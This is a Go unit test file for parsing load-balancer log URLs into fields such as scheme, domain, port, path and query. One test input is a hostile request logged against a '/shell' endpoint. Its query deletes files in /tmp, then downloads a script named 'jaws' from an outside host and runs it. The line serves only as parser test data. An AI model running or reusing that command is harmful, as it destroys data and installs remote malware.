package elb

import (
	"encoding/json"
	"testing"
)

func TestURLParts(t *testing.T) {
	f := func(u string, want map[string]any) {
		t.Helper()
		var b fields
		urlParts(&b, u)
		got, _ := toEvent(&b)["url"].(map[string]any)
		gj, _ := json.Marshal(got)
		wj, _ := json.Marshal(want)
		if string(gj) != string(wj) {
			t.Errorf("urlParts(%q) = %s, want %s", u, gj, wj)
		}
	}
	n := func(s string) json.Number { return json.Number(s) }
	f("http://www.example.com:80/", map[string]any{"scheme": "http", "domain": "www.example.com", "port": n("80"), "path": "/"})
	f("https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50",
		map[string]any{"scheme": "https", "domain": "test.domain.com", "port": n("443"), "path": "/api/deposits/transactions:search", "query": "detailsLevel=FULL&offset=0&limit=50"})
	f("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
		map[string]any{"scheme": "http", "domain": "127.0.0.1", "port": n("80"), "path": "/shell", "query": "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"})
	f("http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80-",
		map[string]any{"scheme": "http", "domain": "awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com"}) // the port "80-" is not a number
	f("https://[2001:db8::1]:8443/a#frag", map[string]any{"scheme": "https", "domain": "2001:db8::1", "port": n("8443"), "path": "/a", "fragment": "frag"})
	f("https://user@host/x", map[string]any{"scheme": "https", "domain": "host", "path": "/x"})
	f("/relative?q", map[string]any{"path": "/relative", "query": "q"})
}

func TestBoxNumber(t *testing.T) {
	for _, s := range []string{"0", "7", "80", "200", "999", "1000", "65535", "0.000", "0.086", "0.999", "1.5", "1.000", "0.0001", "0.00054", "12"} {
		if got := boxNumber(s); got != json.Number(s) {
			t.Errorf("boxNumber(%q) = %#v", s, got)
		}
	}
}
